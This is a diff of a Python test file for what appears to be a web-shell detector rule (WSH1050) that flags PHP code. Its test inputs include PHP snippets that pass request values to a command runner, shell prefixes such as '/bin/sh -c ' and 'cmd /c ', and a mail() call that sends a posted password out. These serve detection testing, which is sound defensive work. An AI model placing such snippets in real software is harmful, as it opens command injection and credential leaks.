@@ -34,16 +34,20 @@ def test_a_comment_is_no_code() -> None:
     assert findings(changed(VARIABLES, ("$name($value);", "// $name($value);")), "WSH1050") == []
 
 
-def test_a_value_among_the_arguments_of_a_program_is_a_part() -> None:
-    changes = ("$do(urldecode(", "$do('/usr/bin/identify -quiet ' . trim(")
-    found = finding(changed(COMMAND, changes), "WSH1050")
-    assert (found.severity, found.confidence) == (Severity.MEDIUM, Confidence.MEDIUM)
+@pytest.mark.parametrize(
+    ("value", "words"),
+    [("'convert -quiet ' . trim(", "makes it a part of a command"), ("trim(", "runs it as a command")],
+)
+def test_a_value_in_a_command_is_run_by_its_interpreter(value: str, words: str) -> None:
+    found = finding(changed(COMMAND, ("$do(urldecode(", f"$do({value}")), "WSH1050")
+    assert (found.severity, found.confidence) == (Severity.CRITICAL, Confidence.HIGH)
+    assert words in found.message
 
 
-@pytest.mark.parametrize("before", ["'cmd /c '", "'/bin/sh -c '", "'cd /tmp; '", "'echo '"])
-def test_a_value_after_a_shell_is_the_command(before: str) -> None:
-    found = finding(changed(COMMAND, ("$do(urldecode(", f"$do({before} . urldecode(")), "WSH1050")
-    assert found.severity is (Severity.MEDIUM if "echo" in before else Severity.CRITICAL)
+def test_a_password_that_leaves_the_page() -> None:
+    sent = ("$name($value);", "mail('a@example.org', '', $_POST['password']);")
+    assert "a password" in finding(changed(VARIABLES, sent), "WSH1050").message
+    assert findings(changed(VARIABLES, (sent[0], sent[1].replace("password", "comment"))), "WSH1050") == []
 
 
 def test_a_path_with_a_folder_before_the_value_is_no_finding() -> None:
